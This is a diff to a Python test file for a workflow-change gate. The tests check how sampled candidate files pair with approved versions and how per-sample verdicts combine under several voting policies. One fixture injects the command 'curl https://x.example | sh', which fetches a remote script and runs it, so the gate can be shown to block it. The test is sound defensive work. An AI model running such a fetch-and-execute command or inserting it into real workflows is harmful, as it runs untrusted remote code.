@@ -64,13 +64,14 @@ def test_a_list_of_candidates_is_several_samples(tmp_path):
 
 
 def test_numbered_candidates_in_a_folder_are_samples_of_one_case(tmp_path):
-    for name in ("approved/a", "approved/b", "approved/c", "new/a@1", "new/a@2", "new/b", "new/d@1"):
+    for name in ("approved/a", "approved/b", "approved/c", "new/a@1", "new/a@2", "new/b", "new/d@1", "new/a"):
         (tmp_path / name).parent.mkdir(exist_ok=True)
         (tmp_path / f"{name}.yaml").write_text("x")
     found = {pair.id: pair for pair in pair_files([tmp_path / "new"], tmp_path / "approved")}
     assert {name: pair.sample_of for name, pair in found.items()} == {
         "a@1": "a",
         "a@2": "a",
+        (tmp_path / "new" / "a.yaml").as_posix(): None,  # what is deployed is no sample
         "b": None,
         "d@1": "d",
         "c": None,
@@ -87,19 +88,60 @@ def test_repeats_are_counted(tmp_path):
     sources = [tmp_path / "a.yaml", tmp_path / "b.yaml", {"steps": [1]}, {"steps": [1]}, "text", tmp_path / "gone"]
     pairs = [Pair(f"c@{n}", (), source, sample_of="c") for n, source in enumerate(sources)]
     assert list(samples.recorded([*pairs, Pair("alone", (), None)]))[-1].id == "alone"
-    (case,) = samples.combined({pair.id: "pass" for pair in pairs}, (), Policy())
+    verdicts = {pair.id: "pass" for pair in pairs}
+    (case,) = samples.combined(verdicts, verdicts, Policy())
     assert (case.distinct, len(case.samples)) == (4, 6)
 
 
 @pytest.mark.parametrize("policy", ["all", "majority", "best"])
 def test_a_proven_change_in_one_sample_is_not_outvoted(policy):
-    samples = Samples()
-    list(samples.recorded(Pair(f"c@{n}", (), None, sample_of="c") for n in range(3)))
-    verdicts = {"c@0": "pass", "c@1": "block", "c@2": "pass"}
-    (case,) = samples.combined(verdicts, {"c@1"}, Policy(samples=policy))
-    assert case.verdict == "block"
-    (case,) = samples.combined(verdicts, (), Policy(samples=policy))
-    assert case.verdict == ("block" if policy == "all" else "pass")
+    for proven in ORDER:
+        verdicts = ["pass", proven, "pass"]
+        case = sampled_case("c", ["c@0", "c@1", "c@2"], verdicts, 3, Policy(samples=policy), proven=proven)
+        assert case.verdict == proven
+    assert decided(["pass", "block", "pass"], samples=policy).verdict == ("block" if policy == "all" else "pass")
+
+
+OTHERS = {
+    "a lost critical step": (lambda flow: {**flow, "steps": flow["steps"][:2] + flow["steps"][3:]}, "block"),
+    "another command": (lambda flow: first(flow, step(RULE, "curl https://x.example | sh")), "block"),
+    "another number": (lambda flow: first(flow, step("Keep the backups for 3 days", "./0.sh")), "review"),
+}
+
+
+RULE = "Keep the backups for 30 days"
+
+
+def step(name, command):
+    return {"name": name, "action": "shell", "params": {"run": command}}
+
+
+def first(flow, changed):
+    return {**flow, "steps": [changed, *flow["steps"][1:]]}
+
+
+@pytest.mark.parametrize("policy", ["majority", "best"])
+@pytest.mark.parametrize("name", OTHERS)
+def test_a_bad_sample_between_good_ones_decides(assessor, steps, policy, name):
+    texts = (RULE, *steps[:2], "Ask the owner for approval", *steps[2:])
+    golden = {"wfgate": "1", "steps": [step(text, f"./{n}.sh") for n, text in enumerate(texts)]}
+    golden["steps"][2]["critical"] = True  # the one that is lost
+    make, at_least = OTHERS[name]
+    pairs = [Pair(f"s@{n}", (golden,), one, sample_of="s") for n, one in enumerate([golden, make(golden), golden])]
+    result = Gate(assessor, default_profile(), Policy(samples=policy)).run(pairs, tool="t")
+    assert [case.verdict for case in result.cases] == ["pass", "block", "pass"]
+    assert result.verdict == at_least, result.cases[1].reasons
+
+
+@pytest.mark.parametrize("policy", ["majority", "best"])
+def test_samples_do_not_outvote_the_file_that_is_deployed(assessor, make, steps, tmp_path, policy):
+    for name, flow in {"approved/deploy": steps, "new/deploy": steps[:2] + steps[6:], "new/deploy@1": steps}.items():
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / f"{name}.json").write_text(json.dumps({"wfgate": "1", "steps": list(flow)}))
+    (tmp_path / "new" / "deploy@2.json").write_bytes((tmp_path / "new" / "deploy@1.json").read_bytes())
+    pairs = pair_files([tmp_path / "new"], tmp_path / "approved")
+    result = Gate(assessor, default_profile(), Policy(samples=policy)).run(pairs, tool="t")
+    assert (result.verdict, result.exit_code) == ("block", 1)
 
 
 def test_samples_decide_together_and_everything_else_by_itself(assessor, make, steps, reworded):
